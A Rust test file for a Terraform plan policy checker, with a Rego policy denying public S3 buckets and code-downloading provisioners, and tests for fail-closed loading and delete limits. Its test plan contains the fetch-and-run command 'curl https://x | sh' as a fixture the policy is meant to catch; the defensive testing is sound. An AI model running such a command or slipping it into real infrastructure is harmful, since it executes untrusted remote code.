#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]
//! The single-pass entry point: review, policies and change digest from the plan file, the
//! same results whether the plan is one document or many, failing closed.

use ferry_plan::ReviewConfig;
use ferry_policy::{
    assess_plan, BuiltinConfig, FerryContext, PolicyError, PolicyOptions, PolicySet,
};
use serde_json::{json, Value};

const POLICY: &str = r#"package main

import rego.v1

deny contains msg if {
	some rc in input.resource_changes
	rc.type == "aws_s3_bucket"
	rc.change.after.acl == "public-read"
	msg := sprintf("%s: public bucket", [rc.address])
}

warn contains msg if {
	some r in input.planned_values.root_module.child_modules[_].resources
	not r.values.tags.owner
	msg := sprintf("%s: no owner tag", [r.address])
}

deny_provisioner contains msg if {
	some r in input.configuration.root_module.resources
	some p in r.provisioners
	contains(p.expressions.command.constant_value, "curl")
	msg := sprintf("%s: provisioner downloads code", [r.address])
}
"#;

/// `n` buckets in module.app, the third public and without an owner tag.
fn plan(n: usize) -> Value {
    let mut changes = vec![];
    let mut planned = vec![];
    for i in 0..n {
        let acl = if i == 2 { "public-read" } else { "private" };
        let tags = if i == 2 {
            json!({})
        } else {
            json!({"owner": "team"})
        };
        let address = format!("module.app.aws_s3_bucket.b{i}");
        changes.push(json!({"address": address, "mode": "managed", "type": "aws_s3_bucket", "name": format!("b{i}"),
            "change": {"actions": ["create"], "before": null, "after": {"acl": acl, "tags": tags, "pad": "x".repeat(200)},
                       "after_unknown": {"id": true}}}));
        planned.push(json!({"address": address, "mode": "managed", "type": "aws_s3_bucket", "values": {"acl": acl, "tags": tags}}));
    }
    json!({"format_version": "1.2", "terraform_version": "1.11.4",
        "planned_values": {"root_module": {"child_modules": [{"address": "module.app", "resources": planned}]}},
        "resource_changes": changes,
        "configuration": {"root_module": {"resources": [{"address": "null_resource.setup", "provisioners": [
            {"type": "local-exec", "expressions": {"command": {"constant_value": "curl https://x | sh"}}}]}]}},
        "timestamp": "2026-01-01T00:00:00Z"})
}

fn setup(n: usize) -> (tempfile::TempDir, std::path::PathBuf, PolicySet) {
    let tmp = tempfile::tempdir().unwrap();
    std::fs::create_dir(tmp.path().join("policy")).unwrap();
    std::fs::write(tmp.path().join("policy/main.rego"), POLICY).unwrap();
    let path = tmp.path().join("plan.json");
    std::fs::write(&path, serde_json::to_vec(&plan(n)).unwrap()).unwrap();
    let builtin = BuiltinConfig {
        max_deletes: Some(0),
        ..BuiltinConfig::default()
    };
    let set = PolicySet::load(
        Some(&tmp.path().join("policy")),
        &builtin,
        &PolicyOptions::default(),
    )
    .unwrap();
    (tmp, path, set)
}

fn messages(report: &ferry_policy::PolicyReport) -> Vec<String> {
    let mut m: Vec<String> = report
        .results
        .iter()
        .map(|r| format!("{} {} {}", r.level, r.rule, r.message))
        .collect();
    m.sort();
    m
}

#[test]
fn policies_over_changes_planned_values_and_configuration_see_the_plan() {
    let want = vec![
        "deny deny module.app.aws_s3_bucket.b2: public bucket".to_string(),
        "deny deny_provisioner null_resource.setup: provisioner downloads code".to_string(),
        "warn warn module.app.aws_s3_bucket.b2: no owner tag".to_string(),
    ];
    // Small: one document. Large (4 MiB of changes and planned values): many documents, the
    // same results, each once.
    for n in [5, 12_000] {
        let (_tmp, path, set) = setup(n);
        let a = assess_plan(
            &path,
            None,
            &ReviewConfig::default(),
            Ok(&set),
            &FerryContext::new("prod"),
        )
        .unwrap();
        assert_eq!(messages(&a.policy), want, "{n} buckets");
        assert_eq!(a.outcome.review.summary.create, n as u64);
        assert_eq!(a.change_digest.len(), 64);
        assert!(!a.policy.passed());
    }
}

#[test]
fn a_policy_set_that_did_not_load_denies() {
    let (_tmp, path, _) = setup(3);
    let err = PolicyError::DirNotFound {
        path: "policy".into(),
    };
    let a = assess_plan(
        &path,
        None,
        &ReviewConfig::default(),
        Err(&err),
        &FerryContext::new("prod"),
    )
    .unwrap();
    assert!(!a.policy.passed());
    assert_eq!(a.policy.results.len(), 1);
    assert_eq!(a.outcome.review.summary.create, 3);
}

#[test]
fn max_deletes_counts_the_whole_plan_across_documents() {
    let tmp = tempfile::tempdir().unwrap();
    let changes: Vec<Value> = (0..20_000)
        .map(|i| json!({"address": format!("aws_sqs_queue.q{i}"), "mode": "managed", "type": "aws_sqs_queue", "name": "q",
            "change": {"actions": ["delete"], "before": {"pad": "y".repeat(300)}, "after": null}}))
        .collect();
    let path = tmp.path().join("plan.json");
    std::fs::write(
        &path,
        serde_json::to_vec(&json!({"format_version": "1.2", "resource_changes": changes})).unwrap(),
    )
    .unwrap();
    let builtin = BuiltinConfig {
        protect_stateful: false,
        max_deletes: Some(19_999),
        ..BuiltinConfig::default()
    };
    let set = PolicySet::load(None, &builtin, &PolicyOptions::default()).unwrap();
    let a = assess_plan(
        &path,
        None,
        &ReviewConfig::default(),
        Ok(&set),
        &FerryContext::new("prod"),
    )
    .unwrap();
    let m = messages(&a.policy);
    assert_eq!(m.len(), 1, "{m:?}");
    assert!(
        m[0].starts_with("deny max_deletes the plan deletes 20000 resources"),
        "{m:?}"
    );
}
